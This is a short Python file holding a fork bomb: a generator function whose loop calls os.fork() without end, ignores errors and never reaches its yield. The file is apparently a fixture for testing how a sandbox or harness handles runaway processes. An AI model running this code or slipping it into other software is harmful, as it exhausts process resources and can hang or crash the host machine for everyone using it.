"""Forks without end; every child forks too."""

import os


def run(meta, raw):
    while True:
        try:
            os.fork()
        except OSError:
            pass
    yield {}
